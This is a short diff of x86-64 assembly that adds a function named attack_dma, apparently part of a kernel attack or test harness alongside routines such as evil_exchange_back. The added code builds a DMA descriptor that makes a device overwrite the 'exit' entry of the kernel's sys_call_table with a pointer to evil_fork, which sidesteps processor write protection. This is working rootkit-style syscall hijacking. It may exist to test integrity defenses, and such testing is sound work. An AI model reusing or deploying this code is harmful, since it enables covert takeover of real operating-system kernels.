@@ -552,6 +552,25 @@ FUNC evil_exchange_back
     invlpg (%rbx)
     ret
 ENDF evil_exchange_back
+# exit's entry, by a device that copies memory: the one store that no processor makes.
+FUNC attack_dma
+    PROLOGUE
+    KADDR dma_buffer, %rbx
+    leaq evil_fork(%rip), %rcx
+    movq %rcx, (%rbx)
+    movq %rbx, %rdi
+    KCALL __phys_addr
+    movq %rax, 8(%rbx)
+    KADDR sys_call_table+60*8, %rdi
+    KCALL __phys_addr
+    movq %rax, 16(%rbx)
+    movq $8, 24(%rbx)
+    leaq 8(%rbx), %rdi
+    KCALL __phys_addr
+    movl $DMA_PORT, %edx
+    outl %eax, %dx
+    EPILOGUE
+ENDF attack_dma
 
     # Where the hooks lead.
 
